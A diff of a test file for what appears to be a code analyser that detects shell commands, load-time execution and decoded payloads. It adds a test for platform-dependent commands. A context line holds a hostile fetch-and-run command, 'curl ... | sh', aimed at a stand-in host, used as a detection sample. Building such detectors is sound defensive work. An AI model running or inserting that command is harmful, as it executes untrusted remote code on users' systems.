@@ -69,6 +69,12 @@ def test_sees_through_disguise(code: str) -> None:
     assert any("curl https://drop.invalid/a | sh" in fact.detail and fact.at_load for fact in commands)
 
 
+def test_knows_commands_of_every_branch() -> None:
+    """A command that depends on the system is known in all its forms."""
+    code = "import os\nif os.name == 'nt':\n    c = 'powershell x'\nelse:\n    c = 'curl y'\nos.system(c)"
+    assert [f.detail for f in look(code).facts if f.behaviour is Behaviour.RUNS_SHELL] == ["powershell x curl y"]
+
+
 def test_says_that_a_payload_was_decoded() -> None:
     """A fact of decoded code says so, and stands on the line that runs it."""
     fact = next(
